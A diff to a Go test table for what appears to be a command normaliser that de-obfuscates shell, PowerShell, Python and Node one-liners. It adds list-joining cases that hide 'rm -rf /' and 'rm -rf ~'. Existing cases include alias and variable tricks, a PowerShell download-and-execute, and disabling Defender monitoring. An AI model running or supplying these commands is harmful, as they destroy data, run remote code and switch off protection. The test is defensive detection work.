@@ -109,6 +109,8 @@ func TestNormalize(t *testing.T) {
 		{"variables, braces and export", `export T=/; R="rm -rf"; ${R} ${T}`, []string{"rm -f -r /"}},
 		{"alias", `shopt -s expand_aliases; alias tidy='/bin/rm -rf'; tidy ~/.ssh`, []string{"rm -f -r ~/.ssh"}},
 		{"strings joined with plus", `powershell -c "$c='Inv'+'oke-Exp'+'ression'; & $c (iwr http://x)"`, []string{"invoke-expression (invoke-webrequest http://x)"}},
+		{"list joined, Python", `python3 -c "import os; os.system(''.join(['r','m -r','f /']))"`, []string{"python3 -c import os; os.system('rm -rf /')"}},
+		{"list joined, JavaScript", `node -e "require('child_process').execSync(['r','m -r','f ~'].join(''))"`, []string{"node -e require('child_process').execSync('rm -rf ~')"}},
 		{"variables joined with plus", `powershell -c "$p1='Set-MpPref'; $p2='erence -DisableRealt'; $p3='imeMonitoring $true'; iex ($p1+$p2+$p3)"`,
 			[]string{"set-mppreference -disablerealtimemonitoring $true"}},
 		{"a dollar in single quotes is a dollar", `v='$HOME/x'; a='rm -rf'; $a ~`, []string{"rm -f -r ~"}},
